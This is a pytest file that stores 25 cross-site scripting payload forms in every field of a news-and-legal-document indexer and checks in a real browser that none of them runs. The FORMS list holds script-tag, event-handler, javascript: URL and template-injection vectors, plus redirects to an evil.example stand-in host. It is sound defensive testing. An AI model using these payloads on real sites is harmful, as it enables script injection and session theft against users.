"""Stored payloads before a real browser that would let them run: each in every field of an article and of its document, on every kind of page.

The pages' own policy is switched off: escaping alone has to hold.
"""

from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from itertools import count
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page

from indexer.engines import open_engine
from indexer.record import Count, DocumentRecord
from tests.browser import served
from tests.web_archive import DECREE, article, cite

CALL = "hit({n})"
FORMS = (
    "<script>{call}</script>", "</script><script>{call}</script>", "<img src=x onerror={call}>", '"><img src=x onerror={call}>',
    "'><svg onload={call}>", "<svg><script>{call}</script></svg>", "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<a href=javascript:{call} autofocus onfocus={call}>x</a>", "javascript:{call}", "JaVaScRiPt:{call}//", "data:text/html,<script>{call}</script>",
    '" onmouseover="{call}" x="', "' autofocus onfocus='{call}' x='", "</title><script>{call}</script>", "</textarea><script>{call}</script>",
    "<!--><script>{call}</script>-->", "{{{{constructor.constructor('{call}')()}}}}", "{{% if 1 %}}<script>{call}</script>", "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<details open ontoggle={call}>", "\u003cscript\u003e{call}\u003c/script\u003e", "<input onfocus={call} autofocus>", "</style><script>{call}</script>",
    "<base href=https://evil.example/><script src=x.js></script>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
)  # fmt: skip
FIELDS = ("title", "lead", "text", "author", "source", "section", "url", "number")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """An article and a document for each form."""
    folder, numbers = tmp_path_factory.mktemp("payloads") / "index", count()
    with closing(open_engine(f"tantivy:{folder}", create=True)) as engine:
        for at, form in enumerate(FORMS):
            said = {field: form.format(call=CALL.format(n=next(numbers))) for field in FIELDS}
            text = f"Mẫu {at} {said['text']}\nXem Nghị định số 59/2023/NĐ-CP về dân chủ, mẫu {at}."
            cited = cite(text, DECREE)
            cited = replace(cited, document=f"mau-{at}", citation=replace(cited.citation, number=said["number"]))
            engine.add([
                article(
                    "bao-long-an", f"mau-{at}", f"Mẫu {at} {said['title']}", text, f"2020-01-{at + 1:02}", (cited,), lead=said["lead"],
                    authors=(said["author"],), source=said["source"], section=said["section"], urls=(said["url"],),
                    mentions=(said["source"],), province=said["source"], province_now=said["section"],
                )
            ])  # fmt: skip
            engine.add([], [_document(f"mau-{at}", said)])
        engine.commit()
    with served(folder) as address:
        yield address


def _document(key: str, said: dict[str, str]) -> DocumentRecord:
    once = {field: (Count(value, 1),) for field, value in said.items()}
    return DocumentRecord(
        key, said["number"], said["title"], said["text"], once["text"], once["title"], (Count("2020-01-01", 1),), once["source"], once["lead"],
        once["section"], (), 1, 1, "2020-01-01", "2020-01-01",
    )  # fmt: skip


def test_nothing_runs_and_no_page_breaks(chrome: Browser, site: str) -> None:
    hits: list[object] = []
    strangers: list[str] = []
    with chrome.new_context(bypass_csp=True) as context:
        page = context.new_page()
        page.expose_function("hit", lambda number: hits.append(number))
        page.on("dialog", lambda dialog: (hits.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: strangers.append(request.url) if not request.url.startswith(site) else None)
        broken = [address for address in _addresses() if not _whole(page, site + address)]
    assert hits == []
    assert [url for url in strangers if not url.startswith("data:")] == []
    assert broken == []


def _addresses() -> Iterator[str]:
    for at, form in enumerate(FORMS):
        yield f"/bai-viet/bao-long-an/mau-{at}"
        yield f"/van-ban/mau-{at}"
        yield f"/tim-kiem?q={quote(form.format(call='hit(0)'))}&tinh={quote(form.format(call='hit(1)'))}"
    yield from (
        "/", "/tim-kiem?q=mau", "/tim-kiem?q=mau&trang=2&lang=en", "/tim-kiem/loc?o=tinh", "/tim-kiem/loc?o=coquan&q=mau", "/van-ban", "/van-ban?so=59/2023",
        "/tinh", "/co-quan", "/nguon", "/nguon/bao-long-an", "/do-phu", "/do-phu?nam=2020", "/so-sanh", "/kiem-tra", "/tro-giup",
    )  # fmt: skip


def _whole(page: Page, address: str) -> bool:
    """Whether our page is there to its end, every field and popover opened, and nothing of it that we did not write."""
    answer = page.goto(address)
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    page.evaluate("document.querySelectorAll('[popover]').forEach((one) => { one.showPopover(); })")
    ours = page.evaluate("""() => document.querySelector('footer') !== null && document.querySelectorAll('main').length === 1
      && document.querySelectorAll('img, iframe, base, math, object, embed').length === 0
      && [...document.querySelectorAll('script')].every((one) => one.type === 'application/ld+json' || new URL(one.src).pathname.startsWith('/static/'))
      && ![...document.querySelectorAll('*')].some((one) => [...one.attributes].some((each) => each.name.startsWith('on') || /^\\s*(javascript|data):/i.test(each.value) && each.name === 'href'))""")
    return answer is not None and answer.status in (200, 300, 404) and bool(ours)


def test_so_many_payloads_are_stored() -> None:
    assert len(FORMS) * len(FIELDS) == 200
